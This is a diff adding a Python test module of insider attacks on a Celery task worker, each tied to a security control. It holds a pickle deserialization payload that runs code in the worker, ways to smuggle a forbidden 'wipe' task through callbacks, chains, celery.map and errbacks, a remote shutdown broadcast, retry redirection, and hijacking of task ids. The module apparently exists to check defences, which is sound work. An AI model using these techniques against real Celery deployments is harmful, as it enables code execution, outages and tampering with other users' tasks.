@@ -1,0 +1,144 @@
+"""Attacks by insiders: someone who holds a genuine signing key, of a client or of a role that may do nothing.
+
+A signature says who, not what they may. A key must give its holder the rights of its role, and no way into the worker.
+"""
+
+from __future__ import annotations
+
+import pickle
+from pathlib import Path
+from typing import Any
+
+from amqp.exceptions import AMQPError
+
+from .attack import LOW_SIGNER, SIGNER, attack
+from .target import Target, within
+
+WIPE: dict[str, Any] = {
+    "task": "attacks.wipe",
+    "args": ["everything"],
+    "kwargs": {},
+    "options": {},
+    "subtask_type": None,
+    "immutable": True,
+}
+
+
+class Touch:
+    """Makes a file when it is unpickled: code execution, as harmless as it gets."""
+
+    def __init__(self, path: Path) -> None:
+        self.path = path
+
+    def __reduce__(self) -> tuple[Any, ...]:
+        return Path.touch, (self.path,)
+
+
+@attack("F4", "Run code in the worker by a pickle", control="SER-2", assumes=SIGNER)
+def inner_pickle(target: Target) -> str | None:
+    """Stock lets the signer choose the inner format and forces it past `accept_content`."""
+    for message in target.pickled("client", pickle.dumps([[1], {}, Touch(target.effects / "pickle-ran")])):
+        target.inject(message)
+    target.settle()
+    return "the insider's code ran inside the worker" if (target.effects / "pickle-ran").exists() else None
+
+
+@attack("F5.1", "Stop the fleet: a signed number", control="INT-1", assumes=SIGNER)
+def signed_scalar(target: Target) -> str | None:
+    for message in target.signed_body("client", 1):
+        target.inject(message)
+    return target.outage()
+
+
+@attack("F5.2", "Stop the fleet: a signed list of two", control="INT-1", assumes=SIGNER)
+def signed_pair(target: Target) -> str | None:
+    for message in target.signed_body("client", [[], {}]):
+        target.inject(message)
+    return target.outage()
+
+
+@attack("F9", "Have the worker send what one may not", control="AUT-3", assumes=SIGNER)
+def confused_deputy(target: Target) -> str | None:
+    """A task named in `link` or `chain` is sent by the worker, signed with the worker's key."""
+    target.inject(target.signed("client", "attacks.pay", 1, embed={"callbacks": [WIPE]}))
+    target.inject(target.signed("client", "attacks.pay", 1, embed={"chain": [WIPE]}))
+    target.settle()
+    return "the worker sent the client's forbidden task" if target.ran("wipe") else None
+
+
+@attack("F10", "Smuggle a forbidden task inside celery.map", control="AUT-3", assumes=SIGNER)
+def inside_map(target: Target) -> str | None:
+    target.inject(target.signed("client", "celery.map", WIPE, ["everything"]))
+    target.settle()
+    return "the forbidden task ran inside celery.map" if target.ran("wipe") else None
+
+
+@attack("F16", "Shut the worker down by remote control", control="AUT-4", assumes=SIGNER)
+def shutdown(target: Target) -> str | None:
+    try:
+        target.app.control.broadcast("shutdown")
+    except (AMQPError, OSError):
+        target.forbidden += 1  # the broker did not let it
+    else:
+        within(1.0, lambda: not target.worker.alive())
+    return target.outage()
+
+
+@attack("F21", "Have the worker send a retry elsewhere", control="SIG-3", assumes=SIGNER)
+def redirected_retry(target: Target) -> str | None:
+    """Keys in `embed` are spread over the request after every check."""
+    away = {"exchange": target.capture("attacks.pay", 1, queue=target.other_queue).exchange}
+    away["routing_key"] = target.other_queue
+    target.observer.purge(target.other_queue)
+    target.inject(target.signed("client", "attacks.flaky", "order", embed={"delivery_info": away}))
+    target.settle()
+    stolen = target.observer.drain(target.other_queue)
+    return "the worker sent its retry to the attacker's queue" if stolen else None
+
+
+@attack("F22.1", "Have another caller's task dropped", control="AUT-6", assumes=SIGNER)
+def drop_by_id(target: Target) -> str | None:
+    """An expired message is remembered as revoked, by id: the victim's id."""
+    victim = target.capture("attacks.pay", 7)
+    target.inject(target.signed("shop", "attacks.pay", 1, id=victim.task_id, expires="2001-01-01T00:00:00+00:00"))
+    target.settle()
+    target.inject(victim)
+    target.settle()
+    paid = [one["amount"] for one in target.ran("pay")]
+    return "the victim's payment was dropped" if 7 not in paid else None
+
+
+@attack("F22.2", "Answer for another caller's task", control="AUT-6", assumes=SIGNER)
+def squat_on_id(target: Target) -> str | None:
+    """A task of one's own under the victim's id: its result is stored first, and stays."""
+    victim = target.capture("attacks.pay", 7)
+    target.inject(target.signed("shop", "attacks.pay", 1, id=victim.task_id))
+    target.settle()
+    target.inject(victim)
+    target.settle()
+    answer = target.answer(victim.task_id)
+    return f"the victim paid 7 and is told {answer!r}" if answer != 7 else None
+
+
+@attack("F23", "Have an errback run in the main process", control="AUT-3", assumes=SIGNER)
+def inline_errback(target: Target) -> str | None:
+    """A task that is killed by its time limit fails in the main process, where the keys are and consuming happens."""
+    errback = {**WIPE, "task": "attacks.notify", "args": [], "immutable": False}
+    target.inject(target.signed("client", "attacks.work", 5.0, embed={"errbacks": [errback]}, timelimit=[0.3, None]))
+    target.settle()
+    here = [one for one in target.ran("notify") if one["pid"] == target.worker.pid]
+    return "the errback ran in the worker's main process" if here else None
+
+
+@attack("X14", "Make a payment with a monitor's key", control="AUT-1", assumes=LOW_SIGNER)
+def low_privilege(target: Target) -> str | None:
+    target.inject(target.signed("monitor", "attacks.pay", 1))
+    target.settle()
+    return "a key that may only watch made a payment" if target.ran("pay") else None
+
+
+@attack("X15", "Send a task one may not send", control="AUT-1", assumes=SIGNER)
+def forbidden_task(target: Target) -> str | None:
+    target.inject(target.signed("client", "attacks.wipe", "everything"))
+    target.settle()
+    return "the client's forbidden task ran" if target.ran("wipe") else None
